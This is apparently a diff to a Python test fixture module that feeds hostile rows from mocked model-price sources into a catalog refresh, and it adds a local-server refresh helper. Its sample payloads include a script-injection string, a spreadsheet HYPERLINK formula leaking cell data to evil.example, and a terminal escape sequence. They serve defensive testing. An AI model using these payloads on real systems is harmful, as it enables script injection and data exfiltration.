@@ -3,10 +3,23 @@
 from __future__ import annotations
 
 import json
+import shutil
 from collections.abc import Callable, Iterator, Mapping
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
+from datetime import date
+from pathlib import Path
 from typing import Any
 
+from pytest_httpserver import HTTPServer
+
+from generator.fetch.fetched import no_progress
+from generator.ledger.refresh.outcome import Refreshed
+from generator.ledger.refresh.refresh import refresh
+from generator.sources import BY_ID, Live
+from tests.projects import ROOT
+
+CATALOG = ROOT / "docs/catalog"
+TODAY = date(2026, 11, 27)
 SCRIPT = '"><script>window.pwned=1</script><img src=x onerror="window.pwned=1">'
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
 #: What a name may be: parts of paths, what no eye sees, what looks like another, what has no end.
@@ -94,7 +107,7 @@ LINKS = {
     "ESC": "https://evil.example/\x1b[2J",
     "number": 3,
 }
-SHAPES = {"null": None, "list": [], "number": 3, "text": "x"}
+SHAPES: dict[str, Any] = {"null": None, "list": [], "number": 3, "text": "x"}
 PAYLOADS: Mapping[str, Mapping[str, Any]] = {
     "name": NAMES,
     "text": TEXTS,
@@ -190,7 +203,7 @@ def _litellm(rows: list[tuple[int, HostileRow | None]]) -> Any:
             "deprecation_date": at.get("retires", "2027-01-01"),
             "supported_regions": [at.get("region", "eu-west")],
         }
-        out[f"acme/{at['model']}" if "model" in at else f"groq/acme/one-{n}"] = made
+        out[f"acme/{at['model']}" if "model" in at else f"groq/acme/one-x{n}"] = made
     return out
 
 
@@ -198,7 +211,7 @@ def _models_dev(rows: list[tuple[int, HostileRow | None]]) -> Any:
     out: dict[str, Any] = {}
     for n, row in rows:
         at = _values(row)
-        model = at.get("model", f"acme/two-{n}")
+        model = at.get("model", f"acme/two-x{n}")
         made = {
             "id": model,
             "name": at.get("name", f"Two {n}"),
@@ -229,7 +242,7 @@ def _openrouter(rows: list[tuple[int, HostileRow | None]]) -> Any:
         at = _values(row)
         price = at.get("price", "0.000001")
         made = {
-            "id": at.get("model", f"acme/three-{n}"),
+            "id": at.get("model", f"acme/three-x{n}"),
             "name": at.get("name", f"Acme: Three {n}"),
             "context_length": at.get("tokens", 8192),
             "pricing": {"prompt": price, "completion": "0.000002"},
@@ -245,7 +258,7 @@ def _genai_prices(rows: list[tuple[int, HostileRow | None]]) -> Any:
     for n, row in rows:
         at = _values(row)
         model = {
-            "id": at.get("model", f"acme/four-{n}"),
+            "id": at.get("model", f"acme/four-x{n}"),
             "name": at.get("name", f"Four {n}"),
             "context_window": at.get("tokens", 8192),
             "prices": [{"prices": {"input_mtok": 1, "output_mtok": 2}}],
@@ -274,7 +287,7 @@ def _model_prices(rows: list[tuple[int, HostileRow | None]]) -> Any:
         if "models" in at:
             prices[provider] = at["models"]
         else:
-            prices.setdefault(provider, {})[str(at.get("model", f"acme/five-{n}"))] = modes
+            prices.setdefault(provider, {})[str(at.get("model", f"acme/five-x{n}"))] = modes
     return {"prices": prices}
 
 
@@ -342,3 +355,25 @@ def _marked(tree: Any) -> Any:
             return "DIGITS 5000"
         case _:
             return tree
+
+
+def refreshed(folder: Path, server: HTTPServer, *, rows: bool) -> Refreshed:
+    """A live refresh into a new folder, over a server that answers for every source."""
+    folder.mkdir(parents=True)
+    for name in ("identity.yml", "providers.yml", "overrides.yml", "schema.json"):
+        shutil.copy(CATALOG / name, folder / name)
+    (folder / "benchmarks.yml").write_text("[]\n")
+    bodies = answers(hostile=rows)
+    for source, body in bodies.items():
+        server.expect_request(f"/{rows}/{source}.json").respond_with_data(
+            body, content_type="application/json"
+        )
+    return refresh(
+        folder,
+        folder.parent / "cache",
+        live=True,
+        today=TODAY,
+        progress=lambda _: no_progress,
+        sources=tuple(replace(BY_ID[s], live=Live(url=server.url_for(f"/{rows}/{s}.json"))) for s in bodies),
+        scores=(),
+    )
